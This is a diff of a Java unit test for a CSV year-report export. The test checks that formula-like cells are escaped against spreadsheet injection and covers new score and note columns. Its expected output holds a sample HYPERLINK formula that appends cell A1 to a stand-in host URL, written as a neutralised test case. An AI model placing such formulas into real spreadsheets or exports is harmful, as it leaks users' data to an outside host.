@@ -19,17 +19,17 @@ class YearReportCsvTest {
 
     String line = csv.lines().skip(1).findFirst().orElseThrow();
     assertThat(line).startsWith("2017_ZN02;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"clic\"\")\";'+1+1;'-2+3;'@SUM(A1:A9);");
-    assertThat(csv).contains(";'\t=1+1;").contains(";\"'\r=1+1\"\r\n");
+    assertThat(csv).contains(";'\t=1+1;").contains(";\"'\r=1+1\";95,00;60,00;'=Rivedere la fase 2\r\n");
   }
 
   @Test
-  void ordinaryTextsAndNegativeScoresAreWrittenAsTheyAre() throws IOException {
+  void ordinaryTextsAndNegativeScoresAreWrittenAsTheyAreWithThePartialScoresAndTheNucleosNote() throws IOException {
     MonitoredObjective o = reported("Riduzione dei tempi", "Direzione", "Servizio", "Rossi Anna", new BigDecimal("-3.5"),
         "Non raggiunto", "Ritardo - fornitore");
 
     String line = csv(o).lines().skip(1).findFirst().orElseThrow();
     assertThat(line).isEqualTo("2017_ZN02;Riduzione dei tempi;Direzione;Servizio;Rossi Anna;Chiuso;-3,50;Non raggiunto;"
-        + "Ritardo - fornitore");
+        + "Ritardo - fornitore;95,00;60,00;'=Rivedere la fase 2");
   }
 
   private static MonitoredObjective objective(String title, String department, String unit, String manager,
@@ -40,7 +40,8 @@ class YearReportCsvTest {
   private static MonitoredObjective reported(String title, String department, String unit, String manager,
       BigDecimal score, String band, String reason) {
     return new MonitoredObjective("2017_ZN02", 2017, title, department, null, unit, manager, "rossianna", "", "", "",
-        "p1", ObjectiveState.REPORTED, "Chiuso", true, 4, 4, 0, 0, null, null, score, band, reason, null);
+        "p1", ObjectiveState.REPORTED, "Chiuso", true, 4, 4, 0, 0, new BigDecimal("95"), new BigDecimal("60"), score, band,
+        reason, "=Rivedere la fase 2");
   }
 
   private static String csv(MonitoredObjective objective) throws IOException {
